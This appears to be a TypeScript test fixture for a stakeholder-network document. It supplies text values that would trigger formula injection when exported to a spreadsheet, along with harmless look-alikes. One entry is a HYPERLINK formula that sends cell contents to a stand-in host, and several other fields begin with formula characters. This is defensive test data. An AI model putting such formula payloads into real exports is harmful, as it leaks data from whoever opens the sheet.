import { NETWORK_FORMAT, type NetworkDocument } from '../../src/network-document/network-document';

/** Names a spreadsheet would run as formulas, and names that only look like it. */
export const HOSTILE_NAMES = [
  '=HYPERLINK("http://example.test/?leak="&A1,"Click me")',
  '+351 266 000 000',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTabbed Trust',
  '\rCarriage Club',
  "'=already quoted",
  "''+twice quoted",
  "'t Hooft Foundation",
  'Plain School = fine inside',
];

/** A small document whose every text cell a spreadsheet could meet: names, types, themes, descriptions. */
export function hostileDocument(): NetworkDocument {
  return {
    format: NETWORK_FORMAT,
    regions: [{ id: 'r1', name: '=1+1', country: 'PT' }],
    communities: [{ id: 'c1', name: '@Évora', country: 'PT', kind: 'CITY', region: 'r1' }],
    stakeholders: HOSTILE_NAMES.map((name, i) => ({
      id: `s${i}`,
      name,
      sector: 'CIVIL_SOCIETY',
      type: i === 0 ? '-cmd' : null,
      description: i === 1 ? '=2*3' : null,
      community: 'c1',
    })).map(({ type, description, ...s }) => ({
      ...s,
      ...(type === null ? {} : { type }),
      ...(description === null ? {} : { description }),
    })),
    partnerships: [
      {
        id: 'p1',
        name: '+Partnership',
        kind: 'PROJECT',
        themes: ['=theme', 'inclusion'],
        description: '@mention',
        members: [
          { stakeholder: 's0', role: 'LEAD' },
          { stakeholder: 's1', role: 'PARTNER' },
        ],
      },
    ],
  } as NetworkDocument;
}
